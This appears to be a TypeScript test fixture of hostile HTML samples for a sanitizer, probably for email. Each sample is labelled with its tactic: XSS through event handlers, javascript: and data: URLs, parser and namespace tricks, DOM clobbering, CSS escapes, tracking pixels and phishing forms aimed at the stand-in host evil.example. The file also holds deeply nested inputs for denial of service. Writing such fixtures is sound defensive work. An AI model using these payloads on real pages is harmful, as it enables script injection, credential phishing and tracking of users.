/** For tests: HTML that strangers would like to see act, each with what it tries (trust-D50). Nothing in it reaches anybody: the hosts do not exist. */

export const HOSTILE_HTML: readonly (readonly [tries: string, html: string])[] = [
  [
    'a form that asks for a password',
    '<form action="https://evil.example"><input name=p autofocus onfocus=alert(1)><button>Sign in</button></form>',
  ],
  [
    'a layer over the page',
    '<div style="position:fixed;top:0;left:0;width:9999px;height:9999px;z-index:9;background:url(https://evil.example/a)">x</div>',
  ],
  [
    'a style sheet of its own',
    '<style>@import "https://evil.example/a.css"; body{display:none;background:url(https://evil.example/b)}</style>text',
  ],
  [
    'a linked style sheet and a hint to fetch',
    '<link rel=stylesheet href="https://evil.example/a.css"><link rel=prefetch href="https://evil.example/b"><link rel=preconnect href="https://evil.example">',
  ],
  [
    'a change of namespace',
    '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  ],
  [
    'a drawing with script',
    '<svg onload=alert(1)><a xlink:href="javascript:alert(1)"><text>x</text></a><script>alert(1)</script></svg>',
  ],
  [
    'a drawing with a page in it',
    '<svg><foreignObject><iframe srcdoc="<script>alert(1)</script>"></iframe></foreignObject></svg>',
  ],
  [
    'links that run',
    '<a href="java&#10;script:alert(1)">x</a><a href=" javascript:alert(1)">y</a><a href="data:text/html,x">z</a>',
  ],
  ['a link that tells others', '<a href="https://evil.example" ping="https://evil.example/ping">x</a>'],
  [
    'events of elements',
    '<img src=x onerror=alert(1)><b onmouseover="alert(1)">x</b><details open ontoggle=alert(1)>x</details>',
  ],
  ['events of a moving text', '<marquee onstart=alert(1)>x</marquee><body onload=alert(1) onpageshow=alert(1)>'],
  [
    'another page, at once',
    '<meta http-equiv=refresh content="0;url=https://evil.example"><base href="https://evil.example/" target=_top>',
  ],
  [
    'the browser without scripts',
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><template><script>x</script></template>',
  ],
  ['a script that never ends', '<div><script>alert(1)'],
  ['a title in a field', '<textarea></title><img src=x onerror=alert(1)></textarea>'],
  ['a broken comment', '<!--><img src=x onerror=alert(1)>-->'],
  [
    'escapes in a style',
    '<p style="c\\6flor:red;background-image:u\\72l(https://evil.example/x);color:expression(alert(1))">x</p>',
  ],
  [
    'a picture that counts',
    '<img src="https://evil.example/pixel.gif" width=1 height=1><img src="//evil.example/b.gif">',
  ],
  [
    'pictures in other ways',
    '<img srcset="https://evil.example/a 2x"><picture><source srcset="https://evil.example/b"><img alt=x></picture><input type=image src="https://evil.example/c">',
  ],
  [
    'a background',
    '<table background="https://evil.example/a"><tr><td background="https://evil.example/b">x</td></tr></table><body background="https://evil.example/c">',
  ],
  [
    'sound and film',
    '<video autoplay poster="https://evil.example/a" src="https://evil.example/b"></video><audio autoplay src="https://evil.example/c"></audio>',
  ],
  [
    'things that are embedded',
    '<object data="https://evil.example/a"></object><embed src="https://evil.example/b"><iframe src="https://evil.example/c"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
  ],
  [
    'a picture that is a page',
    '<img alt=x src="data:text/html,<script>alert(1)</script>"><img alt=y src="data:image/svg+xml,<svg onload=alert(1)/>">',
  ],
  [
    'a name of a part that breaks out',
    '<img alt=x src="cid:a&quot; onerror=&quot;alert(1)"><img alt=y src=\'cid:"><img src=x onerror=alert(1)>\'>',
  ],
  [
    'an alternative text that breaks out',
    '<img alt=\'"><img src=x onerror=alert(1)>\' src="https://evil.example/p"><a title=\'"><img src=x onerror=alert(1)>\' href="https://evil.example">x</a>',
  ],
  [
    'names of what a page uses',
    '<a id=document name=location href="https://evil.example">x</a><form id=forms><input name=cookie></form>',
  ],
  ['words read otherwise', '\u{feff}+ADw-script+AD4-alert(1)+ADw-/script+AD4-<img src=x \u0000onerror=alert(1)>'],
]

/** More than is laid out: such a letter is shown as text. */
export const OVERLONG_HTML: readonly (readonly [tries: string, html: string])[] = [
  ['depth without end', `${'<div>'.repeat(8_000)}deep`],
  ['elements without number', '<b>a</b>'.repeat(11_000)],
]
